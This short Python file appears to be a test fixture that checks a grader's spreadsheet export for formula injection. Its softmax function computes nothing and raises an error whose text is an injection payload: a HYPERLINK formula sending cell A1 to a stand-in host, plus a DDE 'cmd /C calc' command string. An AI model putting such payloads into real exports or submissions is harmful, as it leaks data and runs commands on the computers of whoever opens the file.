"""Raises errors whose text a spreadsheet would run as a formula.

Family: through the paper
Wall: texts of students are in no table for spreadsheets
Marks: 0
Says: HYPERLINK
"""


class Formula(Exception):
    pass


Formula.__name__ = "=HYPERLINK"


def softmax(logits, dim=-1):
    raise Formula('=HYPERLINK("http://a.example/?"&A1;"mark") +cmd|\' /C calc\'!A0 @SUM(1) -1')
